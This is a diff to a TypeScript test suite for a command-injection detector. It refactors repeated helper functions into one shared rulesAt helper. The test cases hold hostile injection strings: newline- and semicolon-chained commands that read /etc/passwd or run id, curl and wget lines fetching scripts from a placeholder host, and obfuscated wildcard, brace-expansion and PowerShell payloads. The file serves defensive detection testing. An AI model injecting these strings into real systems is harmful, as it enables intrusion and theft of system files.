@@ -10,6 +10,12 @@ const scan = (value: string): Finding[] => {
   scanShell({ value, lower: value.toLowerCase(), kind: 'arg', level: 4 }, out)
   return out
 }
+/** The rules detectShell reports for `v` as a value of `kind` at `level`. */
+const rulesAt = (v: string, level: 2 | 3, kind: 'arg' | 'form' | 'json'): string[] => {
+  const out: Finding[] = []
+  detectShell({ value: v, lower: v.toLowerCase(), kind, level }, out)
+  return out.map((f) => f.rule)
+}
 
 describe('the command-injection pre-screen', () => {
   it('skips only values where the scan finds nothing: commands, flags, hyphens and paths without a separator, $, -c, a / after whitespace or ://', () => {
@@ -54,11 +60,7 @@ describe('the command-injection pre-screen', () => {
 })
 
 describe('a command after a line break', () => {
-  const at2 = (v: string): string[] => {
-    const out: Finding[] = []
-    detectShell({ value: v, lower: v.toLowerCase(), kind: 'form', level: 2 }, out)
-    return out.map((f) => f.rule)
-  }
+  const at2 = (v: string): string[] => rulesAt(v, 2, 'form')
 
   it('is chained to the value when the line before is a parameter value, however short', () => {
     for (const v of ['x\ncat /etc/passwd', '127.0.0.1\nid', 'Hello\ncurl http://e.example/a.sh', 'order 12\n\nwget http://e.example/x']) {
@@ -79,11 +81,7 @@ describe('a command after a line break', () => {
 })
 
 describe('a command in backticks', () => {
-  const at = (v: string, level: 2 | 3): string[] => {
-    const out: Finding[] = []
-    detectShell({ value: v, lower: v.toLowerCase(), kind: 'json', level }, out)
-    return out.map((f) => f.rule)
-  }
+  const at = (v: string, level: 2 | 3): string[] => rulesAt(v, level, 'json')
 
   it('is a Markdown code span inside a sentence: level 3 only, the chain within it too', () => {
     for (const v of ['Works on my Mac: `ls -la ~/Downloads | grep invoice` finds the PDF, but the link 404s.', '<p>Tried `curl -s https://shop.example/cart.js | jq .items` and the cart is empty</p>', 'Run `id` and send me what it says']) {
@@ -100,11 +98,7 @@ describe('a command in backticks', () => {
 })
 
 describe('a line break written as the escape \\n', () => {
-  const at2 = (v: string): string[] => {
-    const out: Finding[] = []
-    detectShell({ value: v, lower: v.toLowerCase(), kind: 'arg', level: 2 }, out)
-    return out.map((f) => f.rule)
-  }
+  const at2 = (v: string): string[] => rulesAt(v, 2, 'arg')
 
   it('separates commands as the break does', () => {
     for (const v of ['\\nid\\n', ';id\\n', '\\n/bin/ls -al\\n', 'x\\r\\ncat /etc/passwd']) expect(at2(v), v).toEqual(['waf.rce.command-chain'])
@@ -116,11 +110,7 @@ describe('a line break written as the escape \\n', () => {
 })
 
 describe('commands written as commix and ZAP write them', () => {
-  const at2 = (v: string): string[] => {
-    const out: Finding[] = []
-    detectShell({ value: v, lower: v.toLowerCase(), kind: 'arg', level: 2 }, out)
-    return out.map((f) => f.rule)
-  }
+  const at2 = (v: string): string[] => rulesAt(v, 2, 'arg')
 
   it('finds a wildcard path that expands to a command, a brace expansion, cmd.exe loops and waits, and PowerShell cmdlets', () => {
     for (const v of ["8.8.8.8'||/usr/bin/i?||'", '1`/???/c?t /???/p??s??`', '8.8.8.8`{ls,-la}`', '127.0.0.1$({uname,-a})', '127.0.0.1;get-help', 'x|timeout /T 15', "1&for /f \"tokens=*\" %i in ('cmd /c ver') do @echo %i", 'a;start-sleep -s 15']) {
